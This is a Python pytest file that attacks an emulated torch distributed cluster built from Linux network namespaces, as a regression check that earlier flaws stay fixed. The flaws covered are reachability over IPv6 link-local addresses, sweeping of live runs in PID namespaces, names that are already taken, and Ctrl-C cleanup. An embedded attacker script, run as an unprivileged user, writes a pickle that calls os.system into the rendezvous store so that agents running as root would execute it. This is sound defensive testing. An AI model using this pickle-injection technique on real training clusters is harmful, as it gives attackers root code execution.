"""What an emulated cluster (``--emulate-nodes``) trusts, attacked for real: from the machine's own namespace as an
unprivileged user, from a PID namespace of its own, through names that are already taken.

* **Reachability.** The old cluster gave the bridge and every node's ``eth0`` an IPv6 link-local address, and node
  0's rendezvous store listened on every interface: uid 65534, in the machine's namespace, reached
  ``[fe80::...%gpl<pid>br]:29500``, wrote a pickle into the rendezvous key, and both agents ran it as root. Now no
  interface of the cluster has IPv6 and every socket of a node listens on the node's own address. The attack runs as
  uid 65534 (``setpriv``) over IPv4 and IPv6, every socket bound to the bridge (``SO_BINDTODEVICE``: nothing can leave
  the machine by its default route), against a real run; a control namespace built as the old code built it shows
  the same attacker connecting.

Needs root (namespaces, ``setpriv``); skipped, with the reason, elsewhere.
"""

import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from goodputlab.distributed import netns
from test_emulated_nodes import listeners, machine_state

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None or shutil.which("setpriv") is None,
    reason="emulated nodes need root (network namespaces), iproute2 and setpriv; CI runs as root",
)

GOODPUTLAB = [sys.executable, "-m", "goodputlab.cli"]
NOBODY = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]

#: The attacker: an unprivileged process in the machine's namespace. Every socket is bound to the bridge, so a packet
#: goes onto the bridge or nowhere. It tries each (address, port, source) and prints one JSON line of what connected;
#: with a connection, it writes a rendezvous state that runs ``touch MARKER`` into the rendezvous key (torch's client
#: through a local relay, as torch's client cannot name the bridge), as the red team did.
ATTACKER = textwrap.dedent('''
    import base64, datetime, json, os, pickle, socket, sys, threading
    bridge, key, marker, targets = sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4])

    def dial(address, port, source):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        s = socket.socket(family)
        s.settimeout(1.0)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bridge.encode())
        if source:  # a source address in the cluster's subnet, which no interface here holds
            s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: unprivileged
            s.bind((source, 0))
        s.connect((address, port, 0, socket.if_nametoindex(bridge)) if family == socket.AF_INET6 else (address, port))
        return s

    results = {}
    for address, port, source in targets:
        try:
            dial(address, port, source).close()
            results[f"{address} {port} {source}"] = "connected"
        except OSError as e:
            results[f"{address} {port} {source}"] = f"{type(e).__name__}: {e.strerror or e}"
    print(json.dumps(results), flush=True)
    reached = [t for t in targets if results[f"{t[0]} {t[1]} {t[2]}"] == "connected"]
    if reached and key:
        relay = socket.socket()
        relay.bind(("127.0.0.1", 0))
        relay.listen(4)

        def pump(a, b):
            try:
                while data := a.recv(65536):
                    b.sendall(data)
            except OSError:
                pass

        def serve():
            while True:
                client, _ = relay.accept()
                upstream = dial(*reached[0])
                upstream.settimeout(None)
                threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
                threading.Thread(target=pump, args=(upstream, client), daemon=True).start()

        threading.Thread(target=serve, daemon=True).start()

        class RunsCode:
            def __reduce__(self):
                return (os.system, (f"touch {marker}",))

        import torch.distributed as dist
        store = dist.TCPStore("127.0.0.1", relay.getsockname()[1], None, False, datetime.timedelta(seconds=10))
        store.set(key, base64.b64encode(pickle.dumps(RunsCode())))
        print("wrote", key, flush=True)
''')


def attack(bridge: str, targets: list[tuple[str, int, str | None]], key: str = "", marker: str = "") -> dict:
    """Run :data:`ATTACKER` as uid 65534; what each target answered."""
    proc = subprocess.run([*NOBODY, sys.executable, "-c", ATTACKER, bridge, key, marker, json.dumps(targets)],
                          capture_output=True, text=True, timeout=120, cwd="/")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.splitlines()[0])


def link_local(mac: str) -> str:
    """The EUI-64 link-local address the kernel gives an interface with this MAC (``addrgenmode eui64``)."""
    b = [int(x, 16) for x in mac.split(":")]
    b[0] ^= 0x02
    words = [b[0] << 8 | b[1], b[2] << 8 | 0xFF, 0xFE << 8 | b[3], b[4] << 8 | b[5]]
    return "fe80::" + ":".join(f"{w:x}" for w in words)


def mac_of(device: str, ns: str | None = None) -> str:
    out = subprocess.run(["ip", *(["-n", ns] if ns else []), "-o", "link", "show", "dev", device],
                         capture_output=True, text=True, check=True).stdout
    return out.split("link/ether ")[1].split()[0]


def ipv6_of(ns: str | None = None) -> list[str]:
    """Every IPv6 address of a namespace (the machine's: None), as ``device address``."""
    out = subprocess.run(["ip", *(["-n", ns] if ns else []), "-6", "-o", "addr", "show"], capture_output=True, text=True,
                         check=True).stdout
    return [f"{line.split()[1]} {line.split()[3]}" for line in out.splitlines()]


@pytest.fixture
def old_style_node():
    """The control: a namespace on a bridge built as the old code built it (IPv6 left on, the kernel's link-local
    addresses), with a listener on every interface at port 29500, as torch's store was; the bridge also holds an IPv4
    address of the node's subnet, which the real cluster's bridge never has. Removed afterwards."""
    tag = f"ctl{os.getpid() % 100000}"  # not a cluster's name: no sweep or state check counts it
    ns, bridge, host, peer = f"{tag}-ns", f"{tag}b", f"{tag}h", f"{tag}p"
    ip = lambda *a: subprocess.run(["ip", *a], check=True, capture_output=True)  # noqa: E731
    listener = None
    try:
        ip("netns", "add", ns)
        ip("link", "add", bridge, "type", "bridge")
        ip("link", "add", host, "type", "veth", "peer", "name", peer)
        ip("link", "set", peer, "netns", ns)
        ip("-n", ns, "addr", "add", "10.200.0.1/24", "dev", peer)
        ip("-n", ns, "link", "set", peer, "up")
        ip("-n", ns, "link", "set", "lo", "up")
        ip("link", "set", host, "master", bridge)
        ip("link", "set", host, "up")
        ip("addr", "add", "10.200.0.254/24", "dev", bridge)
        ip("link", "set", bridge, "up")
        listener = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c",
                                     "import socket, time; s = socket.create_server(('::', 29500), family=socket.AF_INET6, "
                                     "dualstack_ipv6=True); print('up', flush=True); time.sleep(120)"],
                                    stdout=subprocess.PIPE, text=True)
        assert listener.stdout.readline().strip() == "up"
        deadline = time.monotonic() + 10  # the link-local address is usable once duplicate detection is done
        while any("tentative" in subprocess.run(["ip", *where, "-6", "addr"], capture_output=True, text=True).stdout
                  for where in (["-n", ns], [])) and time.monotonic() < deadline:
            time.sleep(0.1)
        yield {"bridge": bridge, "link_local": link_local(mac_of(peer, ns))}
    finally:
        if listener is not None:
            listener.kill()
            listener.wait()
        subprocess.run(["ip", "netns", "delete", ns], capture_output=True)
        subprocess.run(["ip", "link", "delete", bridge], capture_output=True)


def test_the_control_an_old_style_node_is_reached_from_the_machine_over_ipv6_and_ipv4_by_an_unprivileged_user(old_style_node):
    results = attack(old_style_node["bridge"], [(old_style_node["link_local"], 29500, None), ("10.200.0.1", 29500, None)])
    assert set(results.values()) == {"connected"}, results


def test_no_node_of_a_running_cluster_is_reachable_from_the_machine_and_the_rendezvous_attack_runs_nothing(tmp_path):
    out, marker = tmp_path / "run", Path("/tmp") / f"goodputlab-pwned-{os.getpid()}"
    marker.unlink(missing_ok=True)
    proc = subprocess.Popen([*GOODPUTLAB, "run", "--emulate-nodes", "2", "--nproc", "1", "--model", "tiny",
                             "--steps", "100000", "--io-latency-ms", "250", "--device", "cpu", "--quiet", "--out", str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    spaces = [f"{netns.PREFIX}-{proc.pid}-n{i}" for i in (0, 1)]
    bridge = f"{netns.PREFIX}{proc.pid}br"
    try:
        deadline, seen = time.monotonic() + 180, set()
        while time.monotonic() < deadline:  # until node 0's store and both nodes' ranks (gloo) listen
            assert proc.poll() is None, proc.communicate()
            if set(spaces) <= set(netns.namespaces()):
                seen = {(ns, *where) for ns in spaces for where in listeners(ns)}
                if (spaces[0], 29500) in {(ns, port) for ns, _, port in seen} and {ns for ns, *_ in seen} == set(spaces) \
                        and len(seen) >= 4:
                    break
            time.sleep(0.3)
        # the attack, as uid 65534 in the machine's namespace, on every port a node listens on: at the link-local
        # address the kernel would have given each node, and at its IPv4 address (from no source, and from a
        # source in the nodes' subnet)
        ports = {ns: sorted({port for n, _, port in seen if n == ns}) for ns in spaces}
        targets = [(link_local(mac_of("eth0", ns)), port, None) for ns in spaces for port in ports[ns]]
        targets += [(f"10.200.0.{i + 1}", port, source) for i, ns in enumerate(spaces) for port in ports[ns]
                    for source in (None, "10.200.0.200")]
        results = attack(bridge, targets, key=f"torch.rendezvous.goodputlab-{proc.pid}-0", marker=str(marker))
        time.sleep(2)  # an agent's keep-alive would have loaded a written state by now
        assert not marker.exists(), f"the agents ran the attacker's pickle as root; {results}"
        assert len(results) == len(targets) and "connected" not in results.values(), results
        # every socket of a node listens on the node's own address: no loopback, no "every interface"
        assert (spaces[0], "10.200.0.1", 29500) in seen, seen
        assert all(address == f"10.200.0.{int(ns[-1]) + 1}" for ns, address, _ in seen), seen
        # no IPv6 on the bridge, its veths or in the nodes: no address, and IPv6 off
        ours = [link for link in netns.links() if link.startswith(f"{netns.PREFIX}{proc.pid}")]
        assert {bridge, f"{bridge[:-2]}v0", f"{bridge[:-2]}v1"} <= set(ours)
        assert not [a for a in ipv6_of() if a.split()[0].split("@")[0] in ours]
        assert all((netns.IPV6_SYSCTL / link / "disable_ipv6").read_text().strip() == "1" for link in ours)
        assert ipv6_of(spaces[0]) == [] and ipv6_of(spaces[1]) == []
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=90)
        assert proc.returncode == 143, err[-2000:]
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        marker.unlink(missing_ok=True)
    ns_left, links_left, _ = machine_state(out)
    assert not [n for n in ns_left if f"-{proc.pid}-" in n] and not [x for x in links_left if str(proc.pid) in x]


# --- item 8: liveness is a lock, not a process id --------------------------------------------------------------
def _free_pid() -> int:
    """A process id no process of this machine's namespace has now (the victim takes it in a PID namespace of its own)."""
    top = int(Path("/proc/sys/kernel/pid_max").read_text())
    return next(p for p in range(top - 2, 300, -1) if not Path(f"/proc/{p}").exists())


def test_a_live_run_in_a_pid_namespace_of_its_own_is_not_swept_by_another_runs_start(tmp_path):
    """The victim's supervisor has process id N inside its PID namespace, and N names no process outside: the old
    sweep judged it dead by that id and removed its bridge, veths, namespaces and name files while it trained. Now
    its lock is held, and another run's start (``remove_leftovers``) leaves it alone: it completes and cleans up."""
    n = _free_pid()
    out = tmp_path / "victim"
    victim = subprocess.Popen(
        ["unshare", "--pid", "--fork", "--mount-proc", "sh", "-c", f'echo {n - 1} > /proc/sys/kernel/ns_last_pid && "$@"',
         "sh", *GOODPUTLAB, "run", "--emulate-nodes", "2", "--nproc", "1", "--model", "tiny", "--steps", "30",
         "--io-latency-ms", "200", "--device", "cpu", "--json", "--quiet", "--out", str(out)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    spaces = [f"{netns.PREFIX}-{n}-n{i}" for i in (0, 1)]
    deadline = time.monotonic() + 180
    while not (out / "ranks" / "events-rank1.jsonl").exists() and time.monotonic() < deadline:  # training
        assert victim.poll() is None, victim.communicate()
        time.sleep(0.2)
    assert set(spaces) <= set(netns.namespaces()) and not Path(f"/proc/{n}").exists()  # its id names nothing here
    assert n not in netns.remove_leftovers()  # another run starting now
    assert set(spaces) <= set(netns.namespaces()) and f"{netns.PREFIX}{n}br" in netns.links()
    stdout, stderr = victim.communicate(timeout=240)
    assert victim.returncode == 0, stderr[-3000:]
    assert json.loads(stdout)["completed"]
    assert not set(spaces) & set(netns.namespaces()) and not (netns.LOCKS / f"{n}.lock").exists()


# --- item 9: names already taken ---------------------------------------------------------------------------------
def test_a_cluster_whose_names_are_taken_uses_another_number_and_leaves_the_taken_ones_and_their_processes_alone():
    """A namespace ``gpl-<pid>-n0`` and a bridge ``gpl<pid>br`` already exist (a leftover whose pid was reused, another
    tool's): set-up failed, and its teardown deleted that namespace and killed the process in it, blaming privileges.
    Now the cluster takes another number; the taken names, and the process, outlive its teardown."""
    me = os.getpid()
    taken_ns, taken_bridge = f"{netns.PREFIX}-{me}-n0", f"{netns.PREFIX}{me}br"
    subprocess.run(["ip", "netns", "add", taken_ns], check=True)
    subprocess.run(["ip", "link", "add", taken_bridge, "type", "bridge"], check=True)
    sleeper = subprocess.Popen(["ip", "netns", "exec", taken_ns, "sleep", "120"])
    try:
        cluster = netns.EmulatedCluster(2).setup()
        try:
            assert cluster.run != me and cluster.namespace(0) in netns.namespaces()
        finally:
            cluster.teardown()
        assert taken_ns in netns.namespaces() and taken_bridge in netns.links() and sleeper.poll() is None
        assert me not in netns.remove_leftovers()  # its id is this live process: not a leftover to judge
        assert taken_ns in netns.namespaces() and sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()
        subprocess.run(["ip", "netns", "delete", taken_ns])
        subprocess.run(["ip", "link", "delete", taken_bridge])


def test_a_failed_ip_command_is_told_as_it_failed_and_privileges_only_when_they_lacked():
    exists = subprocess.run(["ip", "link", "add", "lo", "type", "bridge"], capture_output=True, text=True)
    denied = subprocess.run(["unshare", "--user", "ip", "link", "add", "gplprobe0", "type", "bridge"], capture_output=True,
                            text=True)
    assert exists.returncode and denied.returncode
    said = [netns._why(subprocess.CalledProcessError(p.returncode, p.args, p.stdout, p.stderr)) for p in (exists, denied)]
    assert "File exists" in said[0] and "root" not in said[0], said[0]
    assert "not permitted" in said[1] and "need root" in said[1], said[1]


# --- item 10: Ctrl-C while the cluster is made ---------------------------------------------------------------------
@pytest.mark.parametrize("moment", ["first namespace", "lighthouse"])
def test_ctrl_c_while_a_torchft_runs_emulated_nodes_are_made_writes_the_summary_and_leaves_nothing(moment, tmp_path):
    """SIGINT as soon as the first namespace exists (set-up under way), or once the lighthouse runs: the old run wrote no
    summary.json and said "'FtNodes' object has no attribute 'lighthouse_bind'". Now: one line, a summary, no namespace."""
    pytest.importorskip("torchft", reason="the ft extra: pip install 'goodputlab[ft]'")
    out = tmp_path / "ft"
    proc = subprocess.Popen([*GOODPUTLAB, "run", "--fault-tolerance", "torchft", "--emulate-nodes", "2", "--nproc", "2",
                             "--model", "tiny", "--steps", "40", "--ckpt-every", "0", "--threads", "1", "--device", "cpu",
                             "--quiet", "--out", str(out)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while proc.poll() is None and time.monotonic() < deadline:
        made = [ns for ns in netns.namespaces() if ns.startswith(f"{netns.PREFIX}-{proc.pid}-")]
        if made and (moment == "first namespace" or (out / "logs" / "lighthouse.log").exists()):
            break
        time.sleep(0.005)
    proc.send_signal(signal.SIGINT)
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode != 0 and "interrupted" in stderr, stderr[-2000:]
    assert "Traceback" not in stderr and "has no attribute" not in stderr, stderr[-2000:]
    assert json.loads((out / "summary.json").read_text())["stop_reason"] == "interrupted"
    assert not [ns for ns in netns.namespaces() if ns.startswith(f"{netns.PREFIX}-{proc.pid}-")]
